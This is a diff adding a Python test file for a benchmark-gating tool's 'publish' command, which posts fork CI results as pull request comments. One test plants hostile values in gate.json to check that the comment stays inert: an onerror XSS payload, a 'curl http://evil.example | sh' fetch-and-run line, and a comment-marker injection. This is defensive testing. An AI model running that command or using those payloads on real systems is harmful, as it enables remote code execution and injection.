@@ -1,0 +1,87 @@
+"""The fork-safe half: `benchgate publish` posts an untrusted gate.json after validating it."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from markdown_it import MarkdownIt
+
+from tests.conftest import benchgate
+from tests.fakes.github_server import FakeGitHub
+from tests.test_ci import BOT, OWNER, PR, READ_ONLY, REPO, TOKEN, ours, pull_request
+
+GATE = ".benchgate/ci/gate.json"
+
+
+def fork_run(repo: Path) -> str:
+    """What the unprivileged pull_request job does: gate without commenting."""
+    base, head = pull_request(repo)
+    done = benchgate(repo, "ci", "--no-comment", "--base", base)
+    assert done.returncode == 1, done.stderr
+    return head
+
+
+def publish(repo: Path, github: FakeGitHub, *args: str, token: str = TOKEN) -> object:
+    env = {"GITHUB_TOKEN": token, "GITHUB_REPOSITORY": f"{OWNER}/{REPO}", "GITHUB_API_URL": github.api_url}
+    return benchgate(repo, "publish", "--gate-json", GATE, "--pr", str(PR), *args, env=env)
+
+
+def test_publish_posts_the_verified_results_once(repo: Path) -> None:
+    head = fork_run(repo)
+    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
+        github.add_issue(OWNER, REPO, PR, head_sha=head)
+        first = publish(repo, github, "--expect-head-sha", head)
+        second = publish(repo, github, "--expect-head-sha", head)
+        assert first.returncode == 0, first.stderr  # type: ignore[attr-defined]
+        assert second.returncode == 0  # type: ignore[attr-defined]
+        [comment] = ours(github)
+        assert "❌ FAIL" in str(comment["body"])
+
+
+def test_publish_refuses_a_pr_that_moved_on(repo: Path) -> None:
+    fork_run(repo)
+    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
+        github.add_issue(OWNER, REPO, PR, head_sha="f" * 40)
+        done = publish(repo, github, "--expect-head-sha", "e" * 40)
+        assert done.returncode == 2  # type: ignore[attr-defined]
+        assert "refusing to post" in done.stderr  # type: ignore[attr-defined]
+        assert ours(github) == []
+
+
+def test_a_tampered_gate_json_is_rejected_or_rendered_inert(repo: Path) -> None:
+    fork_run(repo)
+    path = repo / GATE
+    data = json.loads(path.read_text())
+    result = data["scenarios"]["synthetic"]
+    result["reasons"] = ["<img src=x onerror=alert(1)> [pwn](http://evil.example) @maintainers"]
+    result["reproduce"] = ["curl http://evil.example | sh", "```", "<!-- benchgate:synthetic -->"]
+    path.write_text(json.dumps(data))
+    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
+        github.add_issue(OWNER, REPO, PR)
+        assert publish(repo, github).returncode == 0  # type: ignore[attr-defined]
+        [comment] = ours(github)
+        body = str(comment["body"])
+        assert body.count("<!-- benchgate:") == 1
+        tokens = MarkdownIt("commonmark").enable("table").parse(body)
+        inline = [c for t in tokens for c in (t.children or [])]
+        assert not [t for t in tokens + inline if t.type in ("link_open", "image")]
+        assert not [
+            t for t in tokens + inline if t.type in ("html_block", "html_inline") and "<img" in t.content
+        ]
+
+        result["scenario"] = "synthetic --> <!-- benchgate:other"
+        path.write_text(json.dumps(data))
+        done = publish(repo, github)
+        assert done.returncode == 2  # type: ignore[attr-defined]
+        assert "may use only letters" in done.stderr  # type: ignore[attr-defined]
+
+
+def test_publish_without_write_access_is_an_error_with_a_hint(repo: Path) -> None:
+    fork_run(repo)
+    with FakeGitHub({READ_ONLY: {"login": BOT, "write": False}}) as github:  # type: ignore[dict-item]
+        github.add_issue(OWNER, REPO, PR)
+        done = publish(repo, github, token=READ_ONLY)
+        assert done.returncode == 3  # type: ignore[attr-defined]
+        assert "pull-requests: write" in done.stderr  # type: ignore[attr-defined]
+        assert READ_ONLY not in done.stderr  # type: ignore[attr-defined]
